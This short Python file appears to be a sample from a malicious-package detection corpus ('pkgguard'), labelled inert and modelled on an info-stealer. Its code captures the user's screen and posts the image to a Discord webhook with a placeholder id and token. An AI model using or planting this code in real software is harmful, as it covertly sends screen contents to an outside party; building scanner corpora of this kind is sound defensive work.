# pkgguard corpus 059 (screenshot), modelled on [stealer-profile]; inert, never run.
import io
import requests
from PIL import ImageGrab

shot = ImageGrab.grab()
buf = io.BytesIO()
shot.save(buf, "PNG")
requests.post("https://discord.com/api/webhooks/1000000000000000000/placeholder-token-0000000000000000", files={"file": ("s.png", buf.getvalue())})
